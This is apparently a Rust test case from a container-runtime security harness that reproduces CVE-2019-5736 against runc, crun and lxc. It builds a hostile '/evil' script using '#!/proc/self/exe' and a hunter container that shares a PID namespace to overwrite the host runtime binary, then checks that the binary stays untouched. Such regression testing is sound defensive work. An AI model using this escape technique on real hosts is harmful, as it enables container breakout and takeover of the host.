// SPDX-License-Identifier: Apache-2.0
//! The runtime's own file, opened through /proc/PID/exe of a process that it had put into a container,
//! was overwritten when that had ended: the next container was started by the attacker's program.

use std::fs;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use super::arena::{AS_USER, Arena, delete, exec, give, rootless, wrapped, write_executable};
use super::case::{Case, Outcome, Stop};
use super::common::{Bundle, json, runtime};
use super::racer;

pub(crate) const CASE: Case = Case {
    id: "CVE-2019-5736",
    who: "runc, crun, lxc",
    attack: "the image executes /proc/self/exe; /proc/PID/exe is held and written to",
    run,
    weaken: |_| {
        // Overwritten, as far as the host can tell.
        let real = std::path::PathBuf::from(std::env::var_os(super::weak::REAL).expect("set"));
        let new = real.with_extension("new");
        fs::copy(&real, &new).expect("copy");
        fs::rename(new, real).expect("rename");
    },
};

fn run(arena: &Arena) -> Outcome {
    as_root(arena)?;
    // The user owns the runtime that the container's root would overwrite.
    let mut arena = Arena::open();
    give(&arena.path("runtime"));
    arena.look_again();
    as_user(&arena)
}

fn as_root(arena: &Arena) -> Result<(), Stop> {
    let bundle = hunting(arena);
    bundle.start_detached();
    let begun = wait_for(arena, "hunting", Instant::now());
    for _ in 0..10 {
        exec(&bundle, &[], &["/bin/true"]).ok();
        // What the runtime says as an interpreter is its own affair.
        exec(&bundle, &[], &["/evil"]);
    }
    let mut entrypoint = Bundle::with_args(&["/evil"]).add_mount(arena.volume_mount("/volume"));
    furnish(&entrypoint.rootfs());
    share_pids(&mut entrypoint, &bundle);
    for _ in 0..10 {
        entrypoint.run();
        delete(&entrypoint);
    }
    settle(begun);
    delete(&bundle);
    arena.untouched()
}

fn as_user(arena: &Arena) -> Outcome {
    let mut bundle = hunting(arena);
    rootless(&mut bundle);
    give(&arena.volume());
    bundle.write();
    let run = wrapped(&bundle, &AS_USER, &["run", "--detach", bundle.id()]);
    if run.code != 0 {
        return Ok(format!("as root; this runtime cannot run rootless here: {}", run.message()));
    }
    let begun = wait_for(arena, "hunting", Instant::now());
    for program in ["/bin/true", "/evil"].repeat(10) {
        wrapped(&bundle, &AS_USER, &["exec", bundle.id(), program]);
    }
    settle(begun);
    wrapped(&bundle, &AS_USER, &["delete", "--force", bundle.id()]);
    arena.untouched()?;
    Ok("create and exec, as root and rootless".to_owned())
}

fn hunting(arena: &Arena) -> Bundle {
    let bundle = Bundle::with_args(&["/own", "inside", "overwrite"]);
    furnish(&bundle.rootfs());
    let _ = fs::remove_file(arena.volume().join("found"));
    bundle.add_mount(arena.volume_mount("/volume"))
}

/// The hostile script, and all that the runtime needs to be executed in the container.
fn furnish(rootfs: &Path) {
    racer::install(rootfs);
    write_executable(&rootfs.join("evil"), "#!/proc/self/exe\n");
    let ldd = Command::new("ldd").arg(runtime()).output().expect("ldd");
    let text = String::from_utf8_lossy(&ldd.stdout).into_owned();
    for dir in ["lib", "lib64"] {
        fs::create_dir_all(rootfs.join(dir)).expect("mkdir");
    }
    for path in text.split_whitespace().filter(|word| word.starts_with('/')) {
        let name = Path::new(path).file_name().expect("a name");
        // The loader is known by its path, the others by the loader's own search.
        for dir in ["lib", "lib64"] {
            fs::copy(path, rootfs.join(dir).join(name)).expect("copy a library");
        }
    }
}

/// The hunter sees what happens in the other container.
fn share_pids(bundle: &mut Bundle, other: &Bundle) {
    let path = format!("/proc/{}/ns/pid", other.pid());
    for namespace in bundle.config["linux"]["namespaces"].as_array_mut().expect("a list") {
        if namespace["type"] == "pid" {
            namespace["path"] = json!(path);
        }
    }
}

fn wait_for(arena: &Arena, word: &str, begun: Instant) -> Instant {
    let found = || fs::read_to_string(arena.volume().join("found")).unwrap_or_default();
    while !found().contains(word) {
        assert!(begun.elapsed() < Duration::from_secs(20), "{word}: {}", found());
        std::thread::sleep(Duration::from_millis(5));
    }
    begun
}

/// Time for the hunter to write, now that nothing runs the file any more.
fn settle(_: Instant) {
    std::thread::sleep(Duration::from_millis(200));
}
